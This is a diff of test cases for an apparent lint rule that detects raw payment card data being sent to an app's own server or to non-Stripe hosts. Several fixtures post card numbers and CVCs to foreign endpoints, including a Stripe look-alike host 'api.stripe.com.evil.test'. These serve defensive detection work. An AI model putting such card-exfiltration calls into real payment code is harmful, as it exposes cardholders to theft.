@@ -107,6 +107,35 @@ export async function save(imported: CardDto, partial: Partial<TokenCard>, token
 `,
     },
     {
+      // Requests elsewhere that carry no card data: a PaymentMethod id with brand and last4, a BIN lookup, an order;
+      // limitation: a card held in React state (\`useState\`) is not followed into the request
+      code: `import { useState } from 'react';
+import axios from 'axios';
+
+export function Checkout({ amount, paymentMethod }) {
+  const [card, setCard] = useState({ number: '', cvc: '' });
+  async function submit() {
+    await fetch('/api/orders', { method: 'POST', body: JSON.stringify({ amount, paymentMethodId: paymentMethod.id, last4: card.number.slice(-4) }) });
+    await axios.get('https://lookup.binlist.net/' + card.number.slice(0, 6));
+    await axios.post('/api/charge', { amount, card });
+  }
+  return submit;
+}
+`,
+      filename: 'src/Checkout.jsx',
+    },
+    {
+      // A test posts a card to the app's own endpoint (the endpoint's code is where card data arrives)
+      code: `import request from 'supertest';
+import app from '../app';
+
+it('charges', async () => {
+  await fetch('http://localhost:3000/charge', { method: 'POST', body: JSON.stringify({ cardNumber: '4242424242424242', cvc: '123' }) });
+});
+`,
+      filename: 'test/charge.test.js',
+    },
+    {
       // limitation: a card object that is a parameter or request field cannot be proven card-shaped
       code: `
 import Stripe from 'stripe';
@@ -201,22 +230,12 @@ Stripe.card.createToken({ number: $('.card-number').val(), cvc: $('.card-cvc').v
 `,
     },
     {
-      // raw HTTP: other hosts, look-alike hosts, endpoints that take no card, unknown hosts
+      // raw HTTP to Stripe: endpoints that take no card (other hosts and look-alikes are another message, invalid below)
       code: `
 import axios from 'axios';
-export async function other(card: { number: string; cvc: string }) {
-  await fetch('https://api.example.com/v1/tokens', { method: 'POST', body: new URLSearchParams({ 'card[number]': card.number }) });
-  await fetch('https://api.stripe.com.evil.test/v1/tokens', { method: 'POST', body: new URLSearchParams({ 'card[number]': card.number }) });
+export async function other() {
   await axios.post('https://api.stripe.com/v1/refunds', new URLSearchParams({ charge: 'ch_1', 'metadata[card_number_hint]': '4242' }));
   await axios.post('https://api.stripe.com/v1/payment_methods', new URLSearchParams({ type: 'card', 'card[token]': 'tok_visa' }));
-}
-`,
-    },
-    {
-      // limitation: a base URL that is not static (env variable) hides the host
-      code: `
-export async function viaEnv(number: string, cvc: string) {
-  await fetch(\`\${process.env.STRIPE_API_BASE}/v1/tokens\`, { method: 'POST', body: new URLSearchParams({ 'card[number]': number, 'card[cvc]': cvc }) });
 }
 `,
     },
@@ -318,6 +337,70 @@ axios.send('https://api.stripe.com/v1/tokens', { card: { number: '42424242424242
     },
   ],
   invalid: [
+    {
+      // A hand-rolled card form posts the card to the app's own API (no Stripe in the file): the page handles card data
+      code: `import { useState } from 'react';
+
+export function PaymentForm({ amount }) {
+  const [form, setForm] = useState({ number: '', expiry: '', cvc: '' });
+  async function submit(event) {
+    event.preventDefault();
+    await fetch(\`\${process.env.REACT_APP_API}/pay\`, {
+      method: 'POST',
+      headers: { 'Content-Type': 'application/json' },
+      body: JSON.stringify({ cardNumber: form.number, cvv: form.cvc, expiry: form.expiry, amount }),
+    });
+  }
+  return <form onSubmit={submit} />;
+}
+`,
+      filename: 'src/PaymentForm.jsx',
+      output: null,
+      errors: [
+        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST …/pay', what: 'card number (PAN)', field: 'cardNumber' }, line: 10, column: 30, endLine: 10, endColumn: 40 },
+        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST …/pay', what: 'card security code (CVC)', field: 'cvv' }, line: 10, column: 55, endLine: 10, endColumn: 58 },
+      ],
+    },
+    {
+      // Raw HTTP elsewhere: another host, a look-alike of Stripe's (hosts are parsed exactly: not api.stripe.com), a
+      // base URL from the environment (the host is unknown, the card data is not)
+      code: `
+export async function other(card: { number: string; cvc: string }) {
+  await fetch('https://api.example.com/v1/tokens', { method: 'POST', body: new URLSearchParams({ 'card[number]': card.number }) });
+  await fetch('https://api.stripe.com.evil.test/v1/tokens', { method: 'POST', body: new URLSearchParams({ 'card[number]': card.number }) });
+  await fetch(\`\${process.env.STRIPE_API_BASE}/v1/tokens\`, { method: 'POST', body: new URLSearchParams({ 'card[number]': card.number, 'card[cvc]': card.cvc }) });
+}
+`,
+      output: null,
+      errors: [
+        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST api.example.com/v1/tokens', what: 'card number (PAN)', field: 'card[number]' }, line: 3, column: 98, endLine: 3, endColumn: 112 },
+        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST api.stripe.com.evil.test/v1/tokens', what: 'card number (PAN)', field: 'card[number]' }, line: 4, column: 107, endLine: 4, endColumn: 121 },
+        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST …/v1/tokens', what: 'card number (PAN)', field: 'card[number]' }, line: 5, column: 105, endLine: 5, endColumn: 119 },
+        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'POST …/v1/tokens', what: 'card security code (CVC)', field: 'card[cvc]' }, line: 5, column: 134, endLine: 5, endColumn: 145 },
+      ],
+    },
+    {
+      // A server forwards the card it received to another processor's API: card data on the server
+      code: `const express = require('express');
+const axios = require('axios');
+const app = express();
+
+app.post('/checkout', express.json(), async (req, res) => {
+  const { card, amount } = req.body;
+  const result = await axios.post('https://api.example-gateway.com/v1/payments', {
+    amount,
+    card: { number: card.number, cvc: card.cvc, expMonth: card.expMonth, expYear: card.expYear },
+  });
+  res.json({ id: result.data.id });
+});
+`,
+      filename: 'server.js',
+      output: null,
+      errors: [
+        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST api.example-gateway.com/v1/payments', what: 'card number (PAN)', field: 'card.number' }, line: 9, column: 13, endLine: 9, endColumn: 19 },
+        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'POST api.example-gateway.com/v1/payments', what: 'card security code (CVC)', field: 'card.cvc' }, line: 9, column: 34, endLine: 9, endColumn: 37 },
+      ],
+    },
     {
       // NestJS: a card DTO declared in the file reaches Stripe as a parameter, destructured or as a member of the
       // request DTO (real-world batch AF: a microservices course's payments service); a GraphQL input type the same way
